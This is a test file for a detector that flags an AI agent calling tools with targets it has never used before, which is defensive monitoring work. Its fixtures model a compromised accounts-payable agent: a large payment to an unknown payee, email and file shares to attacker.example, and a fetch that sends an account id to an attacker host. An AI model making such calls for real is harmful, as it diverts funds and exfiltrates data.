import { describe, expect, it } from 'vitest';
import type { DeclaredBaselinesDocument } from '../../../src/core/baselines/declared-baselines-schema.js';
import type { AuditEvent } from '../../../src/core/events/audit-event.js';
import { DAY, HOUR, T0, engineWith, event, run } from '../../helpers/traffic.js';

// As the genai pack declares them (baselines/packs/genai/genai-tool-targets.yaml).
const declared: DeclaredBaselinesDocument = {
  sensitive: [{ pattern: 'tool:*pay_invoice*', label: 'payments' }],
  tools: [
    { tool: '*pay_invoice*', target: ['payee', 'iban'], label: 'payee', why: 'money is sent to a beneficiary this agent has never paid' },
    { tool: '*send_email*', target: ['to', 'recipient'], label: 'recipient' },
    { tool: '*share_file*', target: ['grantee'], targetAs: 'domain', label: 'grantee-domain' },
    { tool: '*fetch*', target: ['url'], targetAs: 'host', label: 'url-host' },
  ],
};
type Args = Record<string, string | number>;
const call = (agent: string, t: number, tool: string, args: Args, extra: Partial<AuditEvent> = {}): AuditEvent =>
  event(agent, t, {
    category: 'api_call',
    action: `tool:${tool}`,
    resource: `tool:${tool}`,
    attributes: { tool, traceId: `tr-${t}`, ...Object.fromEntries(Object.entries(args).map(([k, v]) => [`tool.arg.${k}`, v])) },
    ...extra,
  });

/** Two days of an accounts-payable agent: two payees, one mailbox, one file partner, one docs site. */
function learned(agent: string): AuditEvent[] {
  const out: AuditEvent[] = [];
  for (let i = 0; i < 24; i++) {
    const t = T0 + i * 2 * HOUR;
    out.push(call(agent, t, 'pay_invoice', { payee: i % 2 === 0 ? 'acme-supplies' : 'globex-ltd', amount: 100 + i }));
    out.push(call(agent, t + 5_000, 'send_email', { to: 'AP-team@example.com' }));
    out.push(call(agent, t + 10_000, 'share_file', { grantee: `clerk${i}@partner.example` }));
    out.push(call(agent, t + 15_000, 'fetch_url', { url: `https://docs.example.com/p/${i}` }));
  }
  return out;
}
const SETTINGS = { learningPeriodMs: DAY, minLearningEvents: 30, cooldownMs: 0 };
const AFTER = T0 + 2 * DAY + 10 * HOUR;
const iso = (t: number) => new Date(t).toISOString();
const brief = (a: { detector: string; agentId: string; time: string; severity: string }) => [a.detector, a.agentId, a.time, a.severity];
const targets = (alerts: ReturnType<typeof run>) => alerts.filter((a) => a.detector === 'new_tool_target');

describe('new_tool_target', () => {
  it('fires on a new payee, recipient, grantee domain and URL host once the agent has learned; high for a sensitive tool', () => {
    const attack = [
      call('ap-bot', AFTER, 'pay_invoice', { payee: 'Northwind Holdings', amount: 48_250 }),
      call('ap-bot', AFTER + 1_000, 'send_email', { to: 'ap-team@example.com,billing@attacker.example' }),
      call('ap-bot', AFTER + 2_000, 'share_file', { grantee: 'drop@attacker.example' }),
      call('ap-bot', AFTER + 3_000, 'fetch_url', { url: 'https://attacker.example:8443/c?d=acct-4471' }),
    ];
    const alerts = targets(run(engineWith(SETTINGS, declared), [...learned('ap-bot'), ...attack]));
    expect(alerts.map(brief)).toEqual([
      ['new_tool_target', 'ap-bot', iso(AFTER), 'high'],
      ['new_tool_target', 'ap-bot', iso(AFTER + 1_000), 'medium'],
      ['new_tool_target', 'ap-bot', iso(AFTER + 2_000), 'medium'],
      ['new_tool_target', 'ap-bot', iso(AFTER + 3_000), 'medium'],
    ]);
    expect(alerts[0]?.summary).toBe(
      'ap-bot called pay_invoice with a payee it has never used: northwind holdings (argument payee). Its usual payees for pay_invoice: acme-supplies, globex-ltd; ' +
        'its usual tools: pay_invoice (25), fetch_url (24), send_email (24), share_file (24). Why it matters: money is sent to a beneficiary this agent has never paid.',
    );
    expect(alerts[0]?.evidence).toEqual([attack[0]?.id]);
    // Of two recipients, the new one is named; the known one (case aside) is not.
    expect(alerts[1]?.observed).toMatchObject({ tool: 'send_email', targets: ['billing@attacker.example'], label: 'recipient' });
    expect(alerts[2]?.observed).toMatchObject({ targets: ['attacker.example'], label: 'grantee-domain' });
    expect(alerts[3]?.observed).toMatchObject({ targets: ['attacker.example'], label: 'url-host' });
  });

  it('is silent on known targets (another clerk of the same partner, another page of the same site), while learning, and for undeclared tools', () => {
    const usual = [
      call('ap-bot', AFTER, 'pay_invoice', { payee: 'globex-ltd', amount: 1 }),
      call('ap-bot', AFTER + 1_000, 'share_file', { grantee: 'newclerk@partner.example' }),
      call('ap-bot', AFTER + 2_000, 'fetch_url', { url: 'https://docs.example.com/new-page' }),
      call('ap-bot', AFTER + 3_000, 'search_docs', { query: 'anything at all' }),
    ];
    expect(targets(run(engineWith(SETTINGS, declared), [...learned('ap-bot'), ...usual]))).toEqual([]);
    const young = [call('new-bot', T0, 'pay_invoice', { payee: 'northwind' }), call('new-bot', T0 + 1_000, 'send_email', { to: 'x@attacker.example' })];
    expect(targets(run(engineWith(SETTINGS, declared), young))).toEqual([]);
  });

  it('raises the same alert after a snapshot and restore', () => {
    const events = [...learned('ap-bot'), call('ap-bot', AFTER, 'pay_invoice', { payee: 'northwind' })];
    const reference = run(engineWith(SETTINGS, declared), events);
    expect(targets(reference)).toHaveLength(1);
    const first = engineWith(SETTINGS, declared);
    run(
      first,
      events.filter((e) => e.timeMs < AFTER),
    );
    const saved = JSON.parse(JSON.stringify(first.snapshot()));
    const second = engineWith(SETTINGS, declared);
    second.restore(saved);
    expect(JSON.parse(JSON.stringify(second.snapshot()))).toEqual(saved);
    expect(
      run(
        second,
        events.filter((e) => e.timeMs >= AFTER),
      ),
    ).toEqual(reference.filter((a) => a.time >= iso(AFTER)));
  });
});
